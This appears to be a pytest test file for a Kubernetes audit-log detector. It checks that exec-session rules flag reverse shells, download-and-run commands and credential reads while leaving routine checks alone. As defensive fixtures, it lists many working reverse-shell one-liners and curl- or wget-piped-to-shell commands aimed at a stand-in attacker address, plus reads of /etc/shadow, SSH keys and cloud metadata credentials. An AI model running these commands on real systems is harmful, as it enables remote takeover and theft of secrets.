"""What an exec session runs: reverse shells, downloaded programs and credential files.

The attacks are the one-liners of the usual reverse-shell cheat sheets and of Elastic's
"Kubernetes Pod Exec Potential Reverse Shell" and "... with Curl or Wget to HTTPS" rules,
sent as kubectl sends them (``kubectl exec p -- sh -c '...'``: one ``command=`` parameter
per word). The benign neighbours are what engineers run in the same place: port checks,
health checks, a download saved to a file.
"""

from __future__ import annotations

from urllib.parse import unquote_plus

import pytest
from test_rules_helpers import exec_ev

from detector.events.normalize import events_from_dicts
from detector.rules import evaluate_rules, load_ruleset

ATTACKER = "198.51.100.7"


@pytest.fixture(scope="module")
def ruleset():
    return load_ruleset()


def fired(ruleset, rule_id: str, command: list[str]) -> int:
    frame = events_from_dicts([exec_ev(command)], cluster="test")
    return evaluate_rules(frame, ruleset.only(rule_id)).findings.height


def shell(line: str) -> list[str]:
    return ["sh", "-c", line]


REVERSE_SHELLS = [
    shell(f"bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1"),
    ["bash", "-c", f"exec 5<>/dev/tcp/{ATTACKER}/443; cat <&5 | while read l; do $l; done"],
    shell(f"0<&196;exec 196<>/dev/udp/{ATTACKER}/53; sh <&196 >&196 2>&196"),
    shell(f"nc -e /bin/sh {ATTACKER} 4444"),
    ["nc", ATTACKER, "4444", "-e", "/bin/bash"],
    shell(f"ncat {ATTACKER} 4444 -c bash"),
    shell(f"busybox nc {ATTACKER} 4444 -e sh"),
    shell(f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {ATTACKER} 4444 >/tmp/f"),
    shell(f"sh -i 2>&1 | nc {ATTACKER} 4444"),
    shell(f"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ATTACKER}:4444"),
    shell(f"openssl s_client -quiet -connect {ATTACKER}:443 | /bin/sh"),
    [
        "python3",
        "-c",
        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        f's.connect(("{ATTACKER}",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
        'import pty; pty.spawn("sh")',
    ],
    [
        "perl",
        "-e",
        f'use Socket;$i="{ATTACKER}";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};',
    ],
    ["perl", "-MIO", "-e", f'$c=new IO::Socket::INET(PeerAddr,"{ATTACKER}:4444");'],
    ["php", "-r", f'$sock=fsockopen("{ATTACKER}",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
    ["ruby", "-rsocket", "-e", f'f=TCPSocket.open("{ATTACKER}",4444).to_i'],
    shell(f"awk 'BEGIN {{s = \"/inet/tcp/0/{ATTACKER}/4444\"; while(1) {{ print |& s }} }}'"),
    ["zsh", "-c", f"zmodload zsh/net/tcp && ztcp {ATTACKER} 4444 && zsh >&$REPLY 2>&$REPLY"],
]

DOWNLOADS = [
    shell(f"curl -fsSL https://{ATTACKER}/x.sh | sh"),
    shell(f"curl -s http://{ATTACKER}/x | bash -s -- --quiet"),
    shell(f"wget -qO- https://{ATTACKER}/i.sh | /bin/bash"),
    shell(f"curl https://{ATTACKER}/p.py | python3"),
    shell(f"wget https://{ATTACKER}/xmrig -O /tmp/x && chmod +x /tmp/x && /tmp/x"),
    shell(f"curl -o /tmp/k https://{ATTACKER}/k; chmod 755 /tmp/k; /tmp/k"),
    # found by review: run by a shell without a pipe
    shell(f'sh -c "$(curl -fsSL http://{ATTACKER}/i.sh)"'),
    ["bash", "-c", f"bash <(curl -s http://{ATTACKER}/i.sh)"],
    shell(f'eval "$(wget -qO- http://{ATTACKER}/i.sh)"'),
    shell(f"curl -so /tmp/x http://{ATTACKER}/x && sh /tmp/x"),
    # a host whose name starts like localhost's or 127's
    ["bash", "-c", "bash -i >& /dev/tcp/locus-c2.example.net/443 0>&1"],
    ["bash", "-c", "bash -i >& /dev/tcp/127c2.example.net/443 0>&1"],
]

ROUTINE = [
    ["sh"],
    ["bash", "-il"],
    shell("echo > /dev/tcp/127.0.0.1/5432 && echo open"),
    shell("timeout 1 bash -c '</dev/tcp/localhost/8080' && echo up"),
    shell("nc -zv db.shop.svc.cluster.local 5432"),
    shell("nc -w 2 -v redis 6379 </dev/null"),
    shell("curl -s http://localhost:8080/healthz"),
    shell("curl -sS https://api.github.com/zen | cat"),
    shell("wget -qO- http://localhost:9090/metrics | grep http_requests"),
    shell("curl -o /tmp/report.json https://example.com/report.json && ls -l /tmp"),
    ["python3", "-c", "import socket; print(socket.gethostbyname('db'))"],
    shell("ps aux | grep nginx"),
    shell("cat /etc/environment"),
    shell("ls -la ~/.ssh && cat ~/.ssh/known_hosts"),
    shell('sh -c "echo $(curl -s http://localhost:8080/healthz)"'),
    shell("curl -so /tmp/r.json https://example.com/r.json && sh -c 'wc -c /tmp/r.json'"),
    shell("timeout 1 bash -c '</dev/tcp/localhost/8080'"),
]


@pytest.mark.parametrize("command", REVERSE_SHELLS + DOWNLOADS, ids=lambda c: c[-1][:40])
def test_a_reverse_shell_or_a_fetched_program_fires(ruleset, command):
    assert fired(ruleset, "exec-reverse-shell", command) == 1


@pytest.mark.parametrize("command", ROUTINE, ids=lambda c: c[-1][:40])
def test_port_checks_health_checks_and_saved_downloads_do_not(ruleset, command):
    assert fired(ruleset, "exec-reverse-shell", command) == 0


@pytest.mark.parametrize(
    "line",
    [
        "cat /proc/1/environ",
        "tr '\\0' '\\n' < /proc/self/environ",
        "cat /proc/*/environ",
        "cat /etc/shadow",
        "cat /root/.ssh/id_rsa",
        "cat ~/.ssh/id_ed25519",
        # EKS Pod Identity's token and IMDS over IPv6 (found by review)
        "cat $AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE",
        "curl -s http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    ],
)
def test_environments_password_hashes_and_private_keys_are_credentials(ruleset, line):
    """Secrets injected as environment variables are read from /proc (Elastic's
    sensitive-path rule); password hashes and SSH keys beside them."""
    assert fired(ruleset, "exec-credential-read", shell(line)) == 1


def test_the_finding_shows_the_command(ruleset):
    frame = events_from_dicts([exec_ev(shell(f"nc -e /bin/sh {ATTACKER} 4444"))], cluster="t")
    (reasons,) = evaluate_rules(frame, ruleset.only("exec-reverse-shell")).findings["reasons"]
    assert any(f"nc -e /bin/sh {ATTACKER} 4444" in r for r in reasons)


def test_a_huge_hostile_body_is_read_the_same_every_time():
    """A pod spec whose command is a megabyte long (the API server takes up to 3 MB): the
    body reader gives its command line each time it meets the body, the second time as
    the first (answers that large are not remembered: 4,096 of them would be gigabytes),
    and a different body between them its own."""
    from test_rules_helpers import ev, pod

    from detector.rules.condition import resolve_field

    def created(command: list[str]) -> dict:
        body = pod("shop")
        body["spec"]["containers"][0]["command"] = command
        return ev("create", "pods", ns="shop", code=201, body=body, user="alice")

    big = ["sh", "-c", "echo " + "A" * 1_000_000]
    small = ["kube-proxy", "--v=2"]
    frame = events_from_dicts([created(big), created(small), created(big)], cluster="t")
    read = frame.select(resolve_field("container_command_lines").expr).to_series().to_list()
    assert read[0] == read[2] == [" ".join(big)]
    assert read[1] == [" ".join(small)]


def test_a_refused_exec_logged_at_request_received_too_is_not_a_session(ruleset):
    """A log that records RequestReceived has a row with no response for each request; an
    exec refused with 403 (or of a pod that does not exist, 404) matched ``not_failed``
    there and was reported as a session that opened (found by review). Where the log
    records a later stage, RequestReceived rows stand in for nothing, also when the later
    row is past the range's end; where it records none, they are counted."""
    command = shell("cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc -e sh x 1")

    def logged(audit_id: str, *stages: tuple[str, int]) -> list[dict]:
        rows = []
        for stage, code in stages:
            row = exec_ev(command, audit_id=audit_id, stage=stage, code=code)
            if stage == "RequestReceived":  # logged as it arrives: no response yet
                del row["responseStatus"]
                row["stageTimestamp"] = row["requestReceivedTimestamp"]
            rows.append(row)
        return rows

    refused = logged("refused", ("RequestReceived", 0), ("ResponseComplete", 403))
    missing = logged("missing", ("RequestReceived", 0), ("ResponseComplete", 404))
    opened = logged("opened", ("RequestReceived", 0), ("ResponseStarted", 101))
    for rule in ("exec-credential-read", "exec-reverse-shell"):
        frame = events_from_dicts(refused + missing, cluster="t")
        assert evaluate_rules(frame, ruleset.only(rule)).findings.is_empty()
        frame = events_from_dicts(opened, cluster="t")
        links = evaluate_rules(frame, ruleset.only(rule)).events
        assert links.select("audit_id", "stage").rows() == [("opened", "ResponseStarted")]
    rule = ruleset.only("exec-credential-read")
    # The range ends between the two rows: its history shows the log records the rest.
    cut = events_from_dicts(refused[:1], cluster="t")
    week = events_from_dicts(opened, cluster="t")
    assert evaluate_rules(cut, rule, history=week).findings.is_empty()
    # A log that records RequestReceived alone: its rows are all there is.
    assert evaluate_rules(cut, rule).findings.height == 1
    (reasons,) = evaluate_rules(
        events_from_dicts(refused, cluster="t"), ruleset.only("pod-exec")
    ).findings["reasons"]
    assert "denied, HTTP 403" in reasons[0]


def test_a_rule_counting_request_received_alone_still_sees_it(tmp_path):
    """A user rule of stages [RequestReceived] fired on nothing once requests had a later
    row (found by review)."""
    path = tmp_path / "mine.yaml"
    path.write_text("""
- rule: exec-asked
  title: Exec asked for
  severity: low
  tactic: Execution
  technique: T1609
  description: Every exec request as it arrives.
  condition: resource = pods and subresource = exec
  stages: [RequestReceived]
  references: [https://kubernetes.io/docs/reference/config-api/apiserver-audit.v1/]
""")
    rules = load_ruleset([str(path)]).only("exec-asked")
    rows = [
        exec_ev(["sh"], audit_id="a", stage=st) for st in ("RequestReceived", "ResponseStarted")
    ]
    found = evaluate_rules(events_from_dicts(rows, cluster="t"), rules).events
    assert found.select("audit_id", "stage").rows() == [("a", "RequestReceived")]


@pytest.mark.parametrize(
    "command",
    [
        # AWS's documented IMDSv2 one-liner and EKS Pod Identity's recipe (found by review)
        shell(
            'TOKEN=$(curl -X PUT "http://169.254.169.254/latest/api/token" '
            '-H "X-aws-ec2-metadata-token-ttl-seconds: 21600") && curl -H '
            '"X-aws-ec2-metadata-token: $TOKEN" '
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        ),
        [
            "curl",
            "-H",
            "Authorization: $(cat /var/run/secrets/pods.eks.amazonaws.com/serviceaccount/"
            "eks-pod-identity-token)",
            "http://169.254.170.23/v1/credentials",
        ],
        # a Bearer header in quotes before the address (found by review of the day's fix)
        shell(
            'curl -H "Authorization: Bearer abc123xyz" '
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        ),
    ],
    ids=["imdsv2", "pod-identity", "bearer-header"],
)
def test_a_credential_fetch_stays_visible_after_redaction(ruleset, command):
    """A credential-named assignment in an exec command (``TOKEN=$(curl ...)``) was
    redacted to the end of the URL-encoded parameter, the metadata address with it, so
    the rule never saw it (found by review). Redaction in a URI ends at an encoded space:
    what is assigned goes, the rest of the command stays."""
    frame = events_from_dicts([exec_ev(command)], cluster="t")
    uri = frame["request_uri"][0]
    assert "169.254.1" in uri and "abc123xyz" not in uri
    assert "$TOKEN" not in unquote_plus(uri)  # the header's value, whatever it is, goes
    if "TOKEN=" in command[-1]:  # a substitution that prints nothing literal stays whole
        assert "TOKEN=$(curl -X PUT" in unquote_plus(uri)
    assert evaluate_rules(frame, ruleset.only("exec-credential-read")).findings.height == 1
